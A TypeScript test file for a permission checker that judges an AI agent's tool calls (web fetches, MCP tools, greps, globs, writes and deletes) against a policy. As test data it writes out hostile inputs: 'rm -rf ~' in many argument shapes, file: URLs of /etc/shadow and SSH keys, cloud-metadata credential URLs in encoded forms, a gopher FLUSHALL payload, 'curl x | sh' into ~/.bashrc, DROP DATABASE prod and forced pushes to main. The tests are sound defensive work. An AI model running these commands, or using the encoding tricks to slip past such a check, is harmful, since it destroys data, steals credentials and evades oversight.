// What a non-shell tool call touches, judged through the whole pipeline with the real shell analyzer and the
// bundled policy: WebFetch by its whole URL, Grep/Glob by every field that widens what they read, MCP and
// unknown tools by the shape of their arguments.
import { describe, expect, it } from 'vitest';
import { fixedClock } from '../../core';
import { analyzeShell } from '../../shell';
import { type CheckDeps, checkWithTrace } from '../pipeline';
import type { ToolInput } from '../request/request';
import { HOME, policyWith, request, WORKSPACE } from '../testdata/fixtures';

const clock = fixedClock('2026-11-29T00:00:00Z');
const deps = (overrides: Parameters<typeof policyWith>[0] = {}): CheckDeps => ({
  analyzeShell,
  policy: policyWith(overrides),
  clock,
});

async function judge(input: ToolInput, toolName: string, overrides: Parameters<typeof policyWith>[0] = {}) {
  const r = await checkWithTrace(request(input, toolName), deps(overrides));
  return { verdict: r.decision.verdict, basis: r.decision.basis, categories: r.decision.categories ?? [] };
}

const fetch = (url: string) => judge({ kind: 'web_fetch', url }, 'WebFetch');

describe('WebFetch is judged by its whole URL', () => {
  it.each([
    ['file: URL of the shadow file', 'file:///etc/shadow'],
    ['file: URL of an SSH key', `file://${HOME}/.ssh/id_ed25519`],
    ['file: URL with an escaped dotenv', `file://${WORKSPACE}/%2Eenv`],
    ['the cloud metadata service', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    ['the metadata service in decimal', 'http://2852039166/latest/'],
    ['the metadata service in IPv4-mapped IPv6', 'http://[::ffff:a9fe:a9fe]/latest/'],
    ['the GCE metadata name', 'http://metadata.google.internal/computeMetadata/v1/'],
  ])('%s is a secret read', async (_name, url) => {
    const d = await fetch(url);
    expect(d.verdict).not.toBe('allow');
    expect(d.categories).toContain('secret_material_read');
  });

  it.each([
    ['the container host', 'http://host.docker.internal:2375/containers/json'],
    ['a private range', 'http://10.0.0.8/admin'],
    ['a link-local address', 'http://169.254.1.1/'],
  ])('%s is not local: an unstated host', async (_name, url) => {
    const d = await fetch(url);
    expect(d.verdict).not.toBe('allow');
    expect(d.categories).toContain('outbound_network_to_unstated_host');
  });

  it.each([
    ['ftp', 'ftp://example.com/x'],
    ['gopher', 'gopher://127.0.0.1:6379/_FLUSHALL'],
    ['data', 'data:text/plain,hi'],
    ['a file: URL on another machine', 'file://fileserver/share/x'],
    ['an unparseable URL', 'http://[bad'],
  ])('%s is uncertain and never allowed', async (_name, url) => {
    const d = await fetch(url);
    expect(d.verdict).not.toBe('allow');
    expect(d.basis).toBe('uncertain');
  });

  it('a workspace file through file: is an ordinary read', async () => {
    expect((await fetch(`file://${WORKSPACE}/README.md`)).verdict).toBe('allow');
  });

  it('loopback in an odd notation stays local', async () => {
    expect((await fetch('http://0x7f000001:3000/health')).verdict).toBe('allow');
  });

  it('a stated host is allowed', async () => {
    const d = await judge({ kind: 'web_fetch', url: 'https://docs.example.org/x' }, 'WebFetch', {
      stated_hosts: ['docs.example.org'],
    });
    expect(d.verdict).toBe('allow');
  });
});

describe('a shell command reaches hosts by the same classes', () => {
  it.each([
    [
      'curl to the metadata service in hex',
      'curl http://0xa9fea9fe/latest/meta-data/',
      'secret_material_read',
    ],
    [
      'curl to the container host',
      'curl http://host.docker.internal:2375/info',
      'outbound_network_to_unstated_host',
    ],
  ])('%s', async (_name, command, category) => {
    const d = await judge({ kind: 'shell', command }, 'Bash');
    expect(d.categories).toContain(category);
  });
});

const mcp = (tool: string, args: unknown, overrides: Parameters<typeof policyWith>[0] = {}) =>
  judge({ kind: 'mcp', server: 'srv', tool, arguments: args }, `mcp__srv__${tool}`, overrides);

describe('MCP and unknown tools are judged by the shape of their arguments', () => {
  it.each([
    ['a shell string', { command: 'rm -rf ~' }],
    ['a cmd string', { cmd: 'rm -rf ~' }],
    ['an argv array', { command: ['rm', '-rf', '/'] }],
    ['a program and its args', { command: 'rm', args: ['-rf', '~'] }],
    ['a script nested in an object', { job: { steps: [{ script: 'rm -rf ~' }] } }],
    ['an argv alone', { argv: ['sh', '-c', 'rm -rf ~'] }],
    ['a program and its arguments', { program: 'rm', arguments: ['-rf', '~'] }],
    ['a command and an argument string', { command: 'rm', args: '-rf ~' }],
    ['a program and an argument string', { program: 'rm', arguments: '-rf ~' }],
    ['a run step nested in a list', { steps: [{ run: 'rm -rf ~' }] }],
    ['a list of command lines', { commands: ['npm test', 'rm -rf ~'] }],
    ['one command line in an argv-shaped array', { command: ['rm -rf ~'] }],
    ['scripts as a list', { scripts: ['rm -rf ~'] }],
    ['python code, no language named', { code: 'import shutil; shutil.rmtree("/")' }],
    [
      'javascript code, language named',
      { language: 'javascript', code: 'require("fs").rmSync("/", {recursive: true})' },
    ],
    ['shell code, language named', { lang: 'bash', code: 'rm -rf ~' }],
  ])('%s reaches the floor, even in mode off', async (_name, args) => {
    const d = await mcp('run', args, { mode: 'off' });
    expect(d.verdict).toBe('deny');
    expect(d.basis).toBe('floor');
  });

  it.each([
    ['a terminal tool', 'send', { input: 'rm -rf ~\n' }],
    ['keystrokes into tmux', 'tmux_send_keys', { keys: 'rm -rf ~' }],
  ])('text typed into %s is a command line: the floor', async (_name, tool, args) => {
    const d = await judge({ kind: 'mcp', server: 'term', tool, arguments: args }, `mcp__term__${tool}`, {
      mode: 'off',
    });
    expect(d.verdict).toBe('deny');
    expect(d.basis).toBe('floor');
  });

  it.each([
    ['an argv with a spaced file name', { command: ['cat', 'my notes.txt'] }],
    ['inert python code', { language: 'python', code: 'print(1 + 1)' }],
  ])('%s does not reach the floor', async (_name, args) => {
    const d = await mcp('run', args, { mode: 'off' });
    expect(d.basis).not.toBe('floor');
  });

  it('text given to a tool that is not a terminal is data', async () => {
    const d = await judge(
      {
        kind: 'mcp',
        server: 'github',
        tool: 'create_issue',
        arguments: { body: 'rm -rf ~', text: 'rm -rf ~' },
      },
      'mcp__github__create_issue',
      { mode: 'off' },
    );
    expect(d.verdict).not.toBe('deny');
  });

  it('a delete tool given home is a root delete: the floor', async () => {
    const d = await mcp('delete_directory', { path: '~' }, { mode: 'off' });
    expect(d.verdict).toBe('deny');
    expect(d.categories).toContain('destructive_root_delete');
  });

  it.each([
    ['a path field', 'read_file', { path: '~/.ssh/id_ed25519' }],
    ['a file_path field', 'read_text', { file_path: `${WORKSPACE}/.env` }],
    ['an absolute path in any field', 'summarize', { input: { what: `${HOME}/.aws/credentials` } }],
    ['a file: URL', 'open', { uri: 'file:///etc/shadow' }],
    ['the metadata service', 'http_get', { url: 'http://169.254.169.254/latest/' }],
  ])('%s that reads a secret is presumed denied: mode off escalates', async (_name, tool, args) => {
    const d = await mcp(tool, args, { mode: 'off' });
    expect(d.verdict).toBe('escalate');
    expect(d.categories).toContain('secret_material_read');
  });

  it('a write tool given a shell start-up file is persistence', async () => {
    const d = await mcp('write_file', { path: '~/.bashrc', content: 'curl x | sh' });
    expect(d.categories).toContain('persistence');
  });

  it('a read-only tool given a start-up file is no persistence', async () => {
    const d = await mcp('read_file', { path: '~/.bashrc' });
    expect(d.categories).not.toContain('persistence');
  });

  it.each([
    ['nested too deep', { a: { b: { c: { d: { e: { f: { g: { h: { i: { j: 'x' } } } } } } } } } }],
    ['too many values', { list: Array.from({ length: 6000 }, (_, i) => i) }],
    ['too big', { content: 'x'.repeat(1_100_000) }],
    ['binary', { data: 'a\u0000b' }],
  ])('arguments %s are uncertain, never allowed', async (_name, args) => {
    const d = await mcp('do', args, { mode: 'off', allow: ['mcp__srv__do'] });
    expect(d.verdict).toBe('escalate');
    expect(d.basis).toBe('uncertain');
  });

  it('arguments wider than gavel reads are unreadable before any is read: uncertain in mode off', async () => {
    const wide: Record<string, string> = {};
    for (let i = 0; i < 50_000; i++) wide[`p${i}`] = `${WORKSPACE}/src/f${i}.ts`;
    for (const args of [wide, { paths: Object.values(wide) }]) {
      const d = await judge({ kind: 'mcp', server: 'fs', tool: 'read', arguments: args }, 'mcp__fs__read', {
        mode: 'off',
      });
      expect(d.verdict).not.toBe('allow');
      expect(d.basis).toBe('uncertain');
    }
  });

  it.each([
    ['a forced push to the default branch', 'push_branch', { branch: 'main', force: true }],
    ['a forced ref update of main', 'update_ref', { ref: 'refs/heads/main', sha: 'abc', force: true }],
    ['a delete of the default branch', 'delete_branch', { branch: 'master' }],
  ])('a git-hosting tool: %s is the floor, even in mode off', async (_name, tool, args) => {
    const d = await mcp(tool, args, { mode: 'off' });
    expect(d.verdict).toBe('deny');
    expect(d.categories).toContain('history_rewrite_on_shared_ref');
  });

  it('a database tool running SQL is read as a client would run it: a drop is a remote delete', async () => {
    const drop = await judge(
      { kind: 'mcp', server: 'pg', tool: 'query', arguments: { sql: 'DROP DATABASE prod' } },
      'mcp__pg__query',
    );
    expect(drop.categories).toContain('remote_resource_delete');
    const words = await judge(
      { kind: 'mcp', server: 'docs', tool: 'search', arguments: { query: 'drop shadow css' } },
      'mcp__docs__search',
    );
    expect(words.categories).toEqual([]);
  });

  it('an allowed MCP tool with ordinary arguments stays allowed', async () => {
    const d = await mcp(
      'create_issue',
      { title: 'bug', body: 'it fails on /api/users', repo: 'o/r' },
      {
        allow: ['mcp__srv__create_issue'],
      },
    );
    expect(d.verdict).toBe('allow');
  });

  it('an unknown tool with a command is analysed too', async () => {
    const d = await judge(
      { kind: 'other', name: 'run_shell', arguments: { command: 'rm -rf /' } },
      'run_shell',
    );
    expect(d.basis).toBe('floor');
  });

  it("a harness built-in's command is a slash command, not a shell", async () => {
    // Judged by its definition (invoked-definitions.test.ts), never as the shell text `rm -rf ~`: with none
    // found it is not known safe, and no floor category is claimed.
    const d = await judge(
      { kind: 'other', name: 'SlashCommand', arguments: { command: '/rm -rf ~' } },
      'SlashCommand',
    );
    expect(d.verdict).toBe('escalate');
    expect(d.categories ?? []).toEqual([]);
  });
});

const grep = (input: { path?: string; glob?: string }) =>
  judge(
    {
      kind: 'read',
      path: input.path ?? WORKSPACE,
      search: 'contents',
      globs: input.glob ? [input.glob] : [],
    },
    'Grep',
  );
const glob = (pattern: string, path = WORKSPACE) =>
  judge({ kind: 'read', path, search: 'names', globs: [pattern] }, 'Glob');

describe('files a later ordinary command runs code from are persistence when written', () => {
  it.each([
    ['a per-worktree git config', '.git/worktrees/feature/config.worktree'],
    ["the folder git takes a repository's config and hooks from (review 18)", '.git/commondir'],
    ['the branch checked out (a later push goes there)', '.git/HEAD'],
    ['object stores borrowed from elsewhere', '.git/objects/info/alternates'],
    ['cargo configuration (rustc-wrapper, runner)', '.cargo/config.toml'],
    ['a pnpmfile (code pnpm install loads)', '.pnpmfile.cjs'],
    ['JVM options of Maven (-javaagent)', '.mvn/jvm.config'],
    ['the Gradle wrapper distribution', 'gradle/wrapper/gradle-wrapper.properties'],
    ['pre-commit hooks configuration', '.pre-commit-config.yaml'],
    ['editor settings naming executables', '.vscode/settings.json'],
    ['bun preload configuration', 'bunfig.toml'],
  ])('%s: `%s`', async (_name, path) => {
    const d = await judge({ kind: 'write', path: `${WORKSPACE}/${path}` }, 'Write');
    expect(d.verdict).not.toBe('allow');
    expect(d.categories).toContain('persistence');
  });

  it('an ordinary source or config file stays a workspace write', async () => {
    for (const path of ['src/config.ts', 'tsconfig.json', 'docs/settings.md', 'gradle.properties.md'])
      expect((await judge({ kind: 'write', path: `${WORKSPACE}/${path}` }, 'Write')).verdict).toBe('allow');
  });
});

describe('a tool that deletes a path is judged as a delete of all of it (Cursor Delete)', () => {
  it.each([
    ['home', HOME],
    ['the root', '/'],
    ['a system root', '/usr'],
  ])('a delete of %s is the floor, even in mode off', async (_name, path) => {
    const d = await judge({ kind: 'write', path, delete: true }, 'Delete', { mode: 'off' });
    expect(d.verdict).toBe('deny');
    expect(d.categories).toContain('destructive_root_delete');
  });

  it('a delete of a key is not allowed in mode off; a delete of a workspace file is', async () => {
    const key = await judge({ kind: 'write', path: `${HOME}/.ssh/id_ed25519`, delete: true }, 'Delete', {
      mode: 'off',
    });
    expect(key.verdict).not.toBe('allow');
    const file = await judge({ kind: 'write', path: `${WORKSPACE}/src/old.ts`, delete: true }, 'Delete');
    expect(file.verdict).toBe('allow');
  });
});

describe('Grep and Glob are judged by every field that widens what they read', () => {
  it.each([
    ['a Grep glob over keys', { glob: '**/*.pem' }],
    ['a Grep glob over dotenv files', { glob: '.env*' }],
    ['a Grep glob over SSH keys by prefix', { glob: 'id_*' }],
    ['a Grep glob in braces', { glob: '*.{ts,key}' }],
    ['a Grep over home (it holds secrets)', { path: HOME }],
    ['a Grep in the SSH folder', { path: `${HOME}/.ssh`, glob: '*' }],
    ['a Grep of a dotenv file', { path: `${WORKSPACE}/.env` }],
  ])('%s is a secret read', async (_name, input) => {
    const d = await grep(input);
    expect(d.verdict).not.toBe('allow');
    expect(d.categories).toContain('secret_material_read');
  });

  it.each([['a Glob into the SSH folder', '~/.ssh/*', WORKSPACE]])(
    '%s is a secret read (it starts in a sensitive folder)',
    async (_name, pattern, path) => {
      const d = await glob(pattern, path);
      expect(d.verdict).not.toBe('allow');
      expect(d.categories).toContain('secret_material_read');
    },
  );

  // A Glob prints names, as `find . -name '.env*'` does: a name is no secret's content.
  it('a Glob over dotenv file names in the workspace is allowed, as find -name is', async () => {
    const d = await glob('**/.env*', WORKSPACE);
    expect(d.verdict).toBe('allow');
  });

  it.each([
    ['a Glob that walks into the SSH folder from home', '.s*/id_*', HOME],
    ['a Glob over the AWS credentials by components', '**/.aws/credentials', HOME],
  ])('%s is not allowed: home is outside the read scope', async (_name, pattern, path) => {
    const d = await glob(pattern, path);
    expect(d.verdict).not.toBe('allow');
  });

  it('a Glob climbing out with `..` before a wildcard reads outside the workspace', async () => {
    const d = await glob('../../*');
    expect(d.verdict).not.toBe('allow');
    expect(d.basis).not.toBe('uncertain');
  });

  it('a Glob with `..` after a wildcard is uncertain', async () => {
    const d = await glob('src/*/../../../etc/*');
    expect(d.verdict).not.toBe('allow');
    expect(d.basis).toBe('uncertain');
  });

  it.each([
    ['a Grep over the workspace for TypeScript', () => grep({ glob: '*.{ts,tsx}' })],
    ['a Grep over the workspace for JSON', () => grep({ glob: '**/*.json' })],
    ['a Grep with no glob', () => grep({})],
    ['a Grep that only excludes', () => grep({ glob: '!*.min.js' })],
    ['a Glob of every source file', () => glob('**/*.ts')],
    ['a Glob of the dotenv template', () => glob('.env.example')],
  ])('%s stays allowed', async (_name, run) => {
    expect((await run()).verdict).toBe('allow');
  });
});

describe('paths that cannot be followed are uncertain, never classed as written', () => {
  it('a symlink chain the resolver gave up on', async () => {
    const r = await checkWithTrace(
      {
        ...request({ kind: 'read', path: `${WORKSPACE}/vendor/deep/link/credentials` }, 'Read'),
        realpath: () => null,
      },
      deps({ mode: 'off' }),
    );
    // It may lead to a secret: classed sensitive, and uncertain; even mode off escalates.
    expect(r.decision.verdict).toBe('escalate');
    expect(r.facts?.uncertain.map((u) => u.code)).toContain('dynamic-path');
  });

  it('a path longer than PATH_MAX (a 30 KB run of `y/..`)', async () => {
    const d = await judge({ kind: 'write', path: `${WORKSPACE}/${'y/../'.repeat(6000)}a.txt` }, 'Write');
    expect(d.verdict).not.toBe('allow');
    expect(d.basis).toBe('uncertain');
  });

  it('an ordinary path with a resolver that finds nothing stays allowed', async () => {
    const r = await checkWithTrace(
      { ...request({ kind: 'read', path: `${WORKSPACE}/src/a.ts` }, 'Read'), realpath: () => undefined },
      deps(),
    );
    expect(r.decision.verdict).toBe('allow');
  });
});
